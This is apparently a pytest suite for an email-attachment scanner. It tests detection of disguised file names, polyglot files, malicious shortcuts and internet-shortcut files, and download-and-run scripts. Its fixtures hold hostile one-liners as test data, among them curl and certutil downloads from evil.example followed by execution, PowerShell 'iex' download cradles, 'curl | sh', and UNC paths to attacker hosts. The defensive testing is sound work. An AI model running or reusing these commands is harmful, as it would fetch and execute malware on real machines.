"""Names, disguises, shortcuts, scripts and programs: what is done with them to people, and what honest people do."""

import pytest

from mailflows.examine import kinds
from mailflows.examine.files.masks import mask_of
from mailflows.examine.files.pointers import shown
from mailflows.examine.finding import Severity
from mailflows.examine.seen import Part
from mailflows.examine.verdict import Word, verdict
from tests.exhibits import zipped_as
from tests.exhibits.archives import packed
from tests.exhibits.files import (
    bmp,
    gif,
    installer,
    jpeg,
    linux_program,
    mac_program,
    png,
    shortcut,
    windows_program,
)
from tests.mailflows.examine.test_archives import found_in, said, weighty


@pytest.mark.parametrize(
    ("name", "severity"),
    [
        ("invoice\u202efdp.exe", Severity.HIGH),
        ("تقرير\u202efdp.scr", Severity.HIGH),
        ("photo\u2067gpj.exe\u2069", None),
        ("report.pdf.js", Severity.HIGH),
        ("صورة.jpg.exe", Severity.HIGH),
        ("report.pdf" + " " * 40 + ".scr", Severity.HIGH),
        ("report" + "\u2800" * 20 + ".exe", Severity.HIGH),
        ("report" + "\u3164" * 20 + ".hta", Severity.HIGH),
        ("a" * 200 + ".exe", Severity.HIGH),
        ("report.pdf\x00.exe", Severity.HIGH),
        ("invoice.exe.", Severity.MEDIUM),
        ("statement.pdf.html", Severity.MEDIUM),
        ("bell\x07.txt", Severity.LOW),
    ],
)
def test_f01_names_that_hide_their_ending(name: str, severity: Severity | None) -> None:
    mask = mask_of(name)
    assert (mask.severity if mask else None) is severity


@pytest.mark.parametrize(
    "name",
    [
        "تقرير\u200f 2026.pdf",
        "صورة\u2067.jpg",
        "می\u200cخواهم.docx",
        "کتێبه\u200cکان\u200f.pdf",
        "محضر الاجتماع     النهائي.pdf",
        "notes.v2.final.txt",
        "report 2026.",
        "backup.tar.gz",
        "photo.jpg.zip",
        "setup.exe",
        "cv.pdf.asc",
        "ملف\u061c.pdf",
    ],
)
def test_names_as_people_write_them_are_left_alone(name: str) -> None:
    assert mask_of(name) is None


def test_f01_two_names_that_disagree() -> None:
    from mailflows.examine.files.names import masked_name

    def named(*names: str) -> list[int | None]:
        return [saw.weight for saw in masked_name(Part(2, "", None, names, True, b"x", False))]

    assert named("photo.jpg", "photo.exe") == [5]
    assert named("photo.jpg", "photo.png") == [2]
    assert named("صورة.jpg", "photo.jpg") == []


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.jpg", png()),  # messengers do it every day
        ("a.png", jpeg()),
        ("a.heic", b"\0\0\0\x18ftypheic" + bytes(20)),
        ("voice.ogg", b"OggS" + bytes(20)),
        ("voice.m4a", b"\0\0\0\x18ftypM4A " + bytes(20)),
        ("list.csv", b"0707011234567,Layla\r\n" * 10),
        ("names.txt", b"MZ is how my name begins"),
        ("BM.txt", b"BM and others met on Monday"),
        ("notes.txt", "مرحبا".encode("cp1256")),
        ("scan.pdf", b"\r\n\r\n%PDF-1.4\n%%EOF"),
        ("letter.odt", zipped_as({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"})),
        ("build.txt", b"#!/bin/sh\necho hello\n"),
        ("letter.odt", b"PK\x03\x04" + bytes(26) + b"mimetype" + b"\x8fxl/\x11word/\x7f"),
        ("key.txt", b"-----BEGIN PGP PUBLIC KEY BLOCK-----"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_f02_files_that_are_what_they_say(name: str, content: bytes) -> None:
    assert "F02" not in weighty(found_in(name, content))


@pytest.mark.parametrize(
    ("name", "content", "grave"),
    [
        ("a.jpg", windows_program(), True),
        ("a.pdf", windows_program(), True),
        ("a.txt", linux_program(), True),
        ("a.docx", mac_program(), True),
        ("a.pdf", b"<html><script>x</script></html>", False),
        ("a.jpg", zipped_as({"a.txt": b"x"}), False),
        ("a.mp4", packed("7zip", {"a.txt": b"x"}), False),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_f02_files_that_are_something_else(name: str, content: bytes, grave: bool) -> None:
    told = [finding for finding in found_in(name, content) if finding.look == "F02"]
    assert told and (told[0].severity is Severity.HIGH) is grave


ZIP = zipped_as({"order.js": b"x"})
PDF = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.png", png(behind=ZIP)),
        ("a.jpg", jpeg(behind=windows_program())),
        ("a.gif", gif() + packed("7zip", {"order.js": b"x"})),
        ("a.bmp", bmp(behind=b"Rar!\x1a\x07\x01\x00" + bytes(50))),
        ("a.pdf", PDF + ZIP),
        ("a.gif", gif(b"<script>alert(1)</script>")),
        ("a.jpg", jpeg(behind=b"\0\0<html><body>x</body></html>")),
    ],
    ids=["png+zip", "jpg+exe", "gif+7z", "bmp+rar", "pdf+zip", "page in a gif", "page behind a jpg"],
)
def test_f02_two_files_in_one(name: str, content: bytes) -> None:
    assert "F02" in weighty(found_in(name, content))


def test_what_hangs_behind_a_picture_is_opened() -> None:
    found = found_in("a.png", png(behind=ZIP))
    assert "order[.]js" in said(found, "F16")
    assert verdict(found, ("files",)).word is Word.DANGEROUS


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.png", png()),
        ("a.jpg", jpeg()),
        ("a.gif", gif(b"made with care")),
        ("a.bmp", bmp()),
        ("moving.jpg", jpeg(behind=b"\0\0\0\x18ftypmp42" + bytes(30))),
        ("preview.jpg", jpeg(behind=jpeg())),
        ("phone.jpg", jpeg(behind=b"SEFH" + bytes(range(200)))),
        ("attached.pdf", b"%PDF-1.4\n" + zipped_as({"a.txt": b"x"}) + b"\n%%EOF\n"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_cameras_and_printers_make_is_left_alone(name: str, content: bytes) -> None:
    assert "F02" not in weighty(found_in(name, content))


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (
            shortcut("/c curl http://evil.example/a.exe -o %tmp%\\a.exe & start %tmp%\\a.exe", relative="..\\cmd.exe"),
            "uses cmd",
        ),
        (
            shortcut("-w hidden -enc " + "QQBB" * 20, relative="..\\WindowsPowerShell\\powershell.exe"),
            "hides what it does",
        ),
        (shortcut(icon="\\\\files.evil.example\\a\\pdf.ico"), "calls at another computer"),
        (shortcut(" " * 300 + "/c calc"), "more than Windows shows"),
        (shortcut() + bytes(5000) + b"<script>" + b"x" * 5000, "hang behind"),
        (shortcut("plain"), "calc"),
    ],
    ids=["curl", "powershell", "UNC icon", "padding", "appended", "plain"],
)
def test_f13_a_windows_shortcut(content: bytes, words: str) -> None:
    found = found_in("report.pdf.lnk", content)
    assert words in said(found, "F13") and verdict(found, ("files",)).word is Word.DANGEROUS


def test_f13_a_shortcut_that_our_reader_cannot_read_shows_its_words() -> None:
    broken = shortcut("-nop iex (iwr evil.example)")[:0x4C] + b"\x01" + "powershell -nop iex x".encode("utf-16-le")
    found = found_in("a.lnk", broken[:20] + b"\xff" + broken[21:])
    assert "powershell -nop" in said(found, "F13")


@pytest.mark.parametrize(
    ("name", "content", "weight"),
    [
        ("news.url", b"[InternetShortcut]\r\nURL=https://www.paper.example/\r\n", 2),
        ("news.webloc", b"<plist><dict><key>URL</key><string>https://www.paper.example/</string></dict></plist>", 2),
        ("news.url", b"[InternetShortcut]\r\nURL=file://203.0.113.9/a/b.exe\r\n", 6),
        ("news.url", b"[InternetShortcut]\r\nURL=\\\\203.0.113.9@80\\a\\b.exe\r\n", 6),
        ("news.url", b"[InternetShortcut]\r\nURL=https://a.example/\r\nIconFile=\\\\evil.example\\x\\a.ico\r\n", 6),
        ("news.url", b"[InternetShortcut]\r\nURL=https://a.example/setup.msi\r\n", 6),
        ("news.url", b"[InternetShortcut]\r\nURL=search-ms:query=a&crumb=location:x\r\n", 6),
        ("news", b"[InternetShortcut]\r\nURL=file:///C:/Windows/System32/calc.exe\r\n", 6),
        ("letter.desktop", b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl x | sh'\nIcon=pdf\n", 6),
        ("docs.library-ms", b"<libraryDescription><simpleLocation><url>\\\\evil.example\\a</url></simpleLocation>", 6),
        ("docs.search-ms", b"<persistedQuery/>", 6),
        ("docs.searchConnector-ms", b"<x><url>https://evil.example/dav</url></x>", 6),
        ("office.rdp", b"full address:s:gate.office.example\r\n", 5),
        ("office.rdp", "full address:s:evil.example\r\ndrivestoredirect:s:*\r\n".encode("utf-16"), 6),
        ("nice.theme", b"[Theme]\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\evil.example\\a.jpg\r\n", 6),
    ],
)  # fmt: skip
def test_f13_small_files_that_lead_elsewhere(name: str, content: bytes, weight: int) -> None:
    assert max(finding.weight for finding in found_in(name, content) if finding.look == "F13") == weight


def test_the_link_in_a_shortcut_can_be_judged_like_any_link() -> None:
    content = b"[InternetShortcut]\r\nURL=http://0xCB007109/login\r\n"
    told = shown(Part(2, "", None, ("a.url",), True, content, False))
    assert [(link.target, link.where) for link in told.links] == [("http://0xCB007109/login", "shortcut")]


@pytest.mark.parametrize(
    ("name", "content", "weight"),
    [
        ("page.js", b"function add(a, b) { return a + b; }", 5),
        ("run.js", b"new ActiveXObject('WScript.Shell').Run('cmd /c curl x')", 6),
        ("a.vbs", b"MsgBox 1", 6),
        ("a.ps1", b"Get-ChildItem", 5),
        ("a.ps1", b"iex (New-Object Net.WebClient).DownloadString('http://x')", 6),
        ("a.ps1", "iex (iwr https://x.example)".encode("utf-16"), 6),
        ("a.bat", b"@echo off\r\ndir\r\n", 5),
        ("a.ps1", b"#" * 900_000 + b"\niex (iwr https://x.example)", 6),
        ("a.bat", b"certutil -urlcache -f http://x a.exe & start /b a.exe", 6),
        ("a.hta", b"<script>x</script>", 6),
        ("a.py", b"print('hello')", 3),
        ("a.py", b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", 6),
        ("a.sh", b"#!/bin/sh\necho hello\n", 3),
        ("a.sh", b"#!/bin/sh\ncurl -s https://x.example/a | sh\n", 6),
        ("a.settingcontent-ms", b"<x/>", 6),
        ("a.jnlp", b"<jnlp/>", 5),
        ("a.msi", b"x", 5),
        ("invoice.bin", installer(), 5),
        ("a.appinstaller", b"<x/>", 5),
        ("work.ovpn", b"client\nremote vpn.office.example 1194\n", 3),
        ("work.ovpn", b"client\nremote vpn.office.example 1194\nscript-security 2\nup /tmp/x.sh\n", 6),
        ("module.vba", b"Sub AutoOpen()\r\nMsgBox 1\r\nEnd Sub", 1),
        ("module.vba", b'Sub AutoOpen()\r\nShell "powershell iwr https://x.example -OutFile a"\r\nEnd Sub', 3),
        ("a.chm", b"ITSF" + bytes(20), 6),
        ("a", linux_program(), 5),
    ],
)  # fmt: skip
def test_f16_scripts_and_programs(name: str, content: bytes, weight: int) -> None:
    assert max(finding.weight for finding in found_in(name, content) if finding.look == "F16") == weight


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("letter.txt", b"Do not run: powershell -enc AAAA; curl http://x | sh; WScript.Shell"),
        ("article.md", b"The attackers used `iex (iwr ...)`, says the report."),
        ("notes", b"call the office, then curl up with a book"),
        ("list.csv", b"cmd;run\r\n"),
        ("www.paper.com", b"<html><p>hello</p></html>"),
    ],
)
def test_words_about_attacks_are_no_attack(name: str, content: bytes) -> None:
    assert "F16" not in weighty(found_in(name, content))


def test_f17_who_vouches_for_a_program() -> None:
    assert "not signed" in said(found_in("setup.exe", windows_program()), "F17")
    assert "not signed" not in said(found_in("setup.exe", windows_program(signed=True)), "F17")
    assert "F17" not in weighty(found_in("setup.exe", windows_program(signed=True)))
    assert "packed: upx1" in said(found_in("setup.exe", windows_program(b"UPX1")), "F17")
    dense = bytes(number * number * 7 + number // 3 & 255 for number in range(8192))
    assert kinds.detected(windows_program(code=dense)) == "application/x-msdownload"
    hung = windows_program(behind=packed("7zip", {"a.exe": windows_program()}))
    found = found_in("setup.exe", hung)
    assert "behind its end" in said(found, "F17") and any("/in/1/in/1" in finding.path for finding in found)


def test_f17_programs_for_other_systems() -> None:
    assert "x86-64" in said(found_in("a", linux_program()), "F17")
    assert "ARM64, not signed" in said(found_in("a", mac_program()), "F17")
    assert "carries a signature" in said(found_in("a", mac_program(signed=True)), "F17")
    assert "breaks off" in said(found_in("a", b"\x7fELF\x02\x01"), "F17")


def test_f25_what_nobody_here_knows_is_told() -> None:
    noise = bytes((number * 2654435761 >> 13) & 255 for number in range(40_000))
    assert weighty(found_in("backup.aes", noise)) == {"F25"}
    assert not weighty(found_in("song.wma", noise))
    assert "sealed" in said(found_in("a.asc", b"-----BEGIN PGP MESSAGE-----\n\nabc\n"), "F25")


@pytest.mark.parametrize("whole", [png(behind=ZIP), jpeg(behind=ZIP), gif(), bmp(), linux_program(), installer()])
def test_no_cut_off_file_stops_the_looks(whole: bytes) -> None:
    for size in range(0, min(600, len(whole)), 17):
        found = found_in("a.jpg", whole[:size])
        assert not any("could not finish" in finding.evidence for finding in found)


@pytest.mark.parametrize(("name", "whole"), [("a.exe", windows_program()), ("a.lnk", shortcut("x"))])
def test_a_cut_off_program_or_shortcut_is_grave_all_the_same(name: str, whole: bytes) -> None:
    for size in range(20, 300, 17):
        assert {"F13", "F16"} & weighty(found_in(name, whole[:size]))
